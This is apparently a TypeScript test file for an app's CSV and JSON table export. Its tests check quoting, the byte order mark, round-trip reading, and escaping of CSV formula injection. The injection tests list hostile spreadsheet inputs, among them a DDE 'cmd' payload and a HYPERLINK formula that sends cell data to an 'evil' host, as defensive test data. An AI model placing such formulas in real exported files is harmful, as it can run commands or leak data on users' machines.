import fc from 'fast-check';
import {exportJson} from '../../../src/client/table/exportTable.js';
import {toCsv, type Units} from '../../../src/views/toCsv.js';
import {readCsv} from '../../../src/dataset/csv.js';
import {markdownTexts} from '../../properties/arbitraryText.js';
import {findValueType, valueTypes} from '../../../src/values/index.js';
import type {ValueType} from '../../../src/values/valueType.js';
import {check} from '../../properties/check.js';

type Rows = Parameters<typeof toCsv>[0];

const rows: Rows = [
  ['', 'Start-up', 'Kernel'],
  ['VM', '17 s to 97 s', 'yes'],
  ['Container', '~ 568 ms', 'no'],
];

// A page has no spaces at the ends of a cell, and none next to another.
const texts = fc
  .oneof(markdownTexts, fc.constant('=1+1'))
  .map((text) => text.replace(/\s+/g, ' ').trim());

const tables = fc.integer({min: 1, max: 4}).chain((width) =>
  fc.array(fc.array(texts, {minLength: width, maxLength: width}), {
    minLength: 1,
    maxLength: 4,
  }),
);

describe('toCsv(rows)', () => {
  function cellsIn(text: string): Rows | undefined {
    const report = (code: string) => {
      throw new Error(code);
    };
    // The reader of files takes the mark away, as a spreadsheet does.
    const file = {path: 'x.csv', text: text.replace(/^\ufeff/, '')};
    return readCsv(file, Infinity, report)?.rows.map((row) =>
      row.map(({text: cell}) => cell),
    );
  }

  it('is rows of cells, quoted where they must be', () => {
    expect(toCsv([...rows, ['a "b", c', '1\n2', ' x ']])).toBe(
      [
        '\ufeff,Start-up,Kernel',
        'VM,17 s to 97 s,yes',
        'Container,~ 568 ms,no',
        '"a ""b"", c","1\n2", x ',
      ].join('\r\n'),
    );
  });

  it('is read back as it was, whatever the texts hold', () => {
    check(
      fc.property(tables, (given) => {
        // Rows without any text are passed over.
        const kept = given.filter((row) => row.some((cell) => cell !== ''));
        const withoutMark = (row: readonly string[]) =>
          row.map((cell) => cell.replace(/^'(?=\s*[=@+\-＝＋－＠])/u, ''));

        expect(cellsIn(toCsv(given))?.map(withoutMark)).toEqual(
          kept.map(withoutMark),
        );
      }),
    );
  });

  it('starts with a byte order mark, so that spreadsheets read € ≤ – µ', () => {
    const bytes = new TextEncoder().encode(toCsv([['€ ≤ – µ']]));

    expect(bytes.slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(new TextDecoder().decode(bytes)).toBe('€ ≤ – µ');
  });
});

describe('CSV formula injection', () => {
  const number = findValueType('number');
  const column = {id: 'x', name: 'X', type: 'number'};

  /** The cell of a file with one column, as a spreadsheet reads it. */
  function cellOf(text: string, units: Units = []): string {
    const [, cell = ''] = toCsv([['x'], [text]], units).split('\r\n');
    return cell.startsWith('"')
      ? cell.slice(1, -1).replaceAll('""', '"')
      : cell;
  }

  /** Whether a value type takes a text for one figure, neither range nor bound. */
  function isFigure(type: ValueType | undefined, text: string): boolean {
    const reading = type?.read(text, column);
    return (
      reading !== undefined &&
      'value' in reading &&
      reading.value.low === reading.value.high
    );
  }

  it.each([
    '=1+1',
    '@SUM(A1)',
    '+cmd',
    '-cmd',
    '=HYPERLINK("x")',
    "-2+3+cmd|' /C calc'!A0",
    '+1+1',
    '-1+HYPERLINK("https://evil/?"&A1,"x")',
    '-.5+cmd|x!A0',
    '- 1+1',
    '- 3',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(A1)',
    '  =1+1',
    '\u00a0=1+1',
    '\n=1+1',
    '\t1',
    '\r1',
    '-5 km',
    '-5 to -3',
    '-5–-3',
    '-5-3',
    '-5%/A1',
    '+5 %',
  ])('puts an apostrophe before %j, and changes nothing else', (text) => {
    expect(cellOf(text)).toBe(`'${text}`);
  });

  it.each(['-5', '+5', '-.5', '-1.5e-3', '1-2', 'a=b', '(=1)', '', ' ', '−5'])(
    'leaves %j as it is',
    (text) => {
      expect(cellOf(text)).toBe(text);
    },
  );

  it('leaves a figure with the unit of its column, and no other', () => {
    const units = [new Set(['%', '‰'])];

    expect(cellOf('+5 %', units)).toBe('+5 %');
    expect(cellOf('-5%', units)).toBe('-5%');
    expect(cellOf('-5 km', units)).toBe("'-5 km");
    expect(cellOf('-5', units)).toBe("'-5");
  });

  it('holds for names of criteria and subjects too', () => {
    expect(
      toCsv([
        ['', '=1+1'],
        ['-1+1', 'x'],
      ]),
    ).toBe("\ufeff,'=1+1\r\n'-1+1,x");
  });

  it('lets a text that starts with a sign be bare where it is a number', () => {
    const hostile = fc
      .array(
        fc.constantFrom(
          '+',
          '-',
          '1',
          '23',
          '.',
          'e',
          ' ',
          '%',
          '(',
          ')',
          'A1',
          '|',
          '!',
        ),
        {minLength: 1, maxLength: 6},
      )
      .map((parts) => parts.join(''));
    check(
      fc.property(fc.constantFrom('+', '-'), hostile, (sign, rest) => {
        const text = sign + rest;

        expect(cellOf(text)).toBe(isFigure(number, text) ? text : `'${text}`);
      }),
      2000,
    );
  });

  it.each(
    valueTypes.flatMap((type) => {
      const criterion = {
        ...column,
        currency: 'EUR',
        unit: 'MB/s',
        negative: true,
      };
      return Object.keys(type.units?.(criterion) ?? {}).map((unit) => ({
        type,
        unit,
      }));
    }),
  )(
    'leaves signed figures in "$unit" of the type $type.name',
    ({type, unit}) => {
      const criterion = {
        ...column,
        currency: 'EUR',
        unit: 'MB/s',
        negative: true,
      };
      const units = [new Set(Object.keys(type.units?.(criterion) ?? {}))];
      const figures = ['+5', '-5', '+.5', '-1.25e3']
        .map((figure) => (unit === '' ? figure : `${figure} ${unit}`))
        .filter((text) => 'value' in type.read(text, criterion));

      expect(figures.length).toBeGreaterThan(0);
      expect(figures.map((text) => cellOf(text, units))).toEqual(figures);
    },
  );
});

describe('toJson(rows)', () => {
  const read = (given: Rows) =>
    JSON.parse(exportJson(given)) as readonly {
      readonly name: string;
      readonly values: readonly {
        readonly criterion: string;
        readonly value: string;
      }[];
    }[];

  it('is an object for each subject, with a value for each criterion', () => {
    expect(read(rows)).toEqual([
      {
        name: 'VM',
        values: [
          {criterion: 'Start-up', value: '17 s to 97 s'},
          {criterion: 'Kernel', value: 'yes'},
        ],
      },
      {
        name: 'Container',
        values: [
          {criterion: 'Start-up', value: '~ 568 ms'},
          {criterion: 'Kernel', value: 'no'},
        ],
      },
    ]);
  });

  it('is an empty list without subjects', () => {
    expect(read([['', 'Start-up']])).toEqual([]);
    expect(read([])).toEqual([]);
  });

  it('holds every text, also of criteria that share a name', () => {
    check(
      fc.property(tables, ([head = [], ...subjects]) => {
        expect(
          read([head, ...subjects]).map(({name, values}) => [
            ['', ...values.map(({criterion}) => criterion)],
            [name, ...values.map(({value}) => value)],
          ]),
        ).toEqual(subjects.map((row) => [['', ...head.slice(1)], row]));
      }),
    );
  });
});
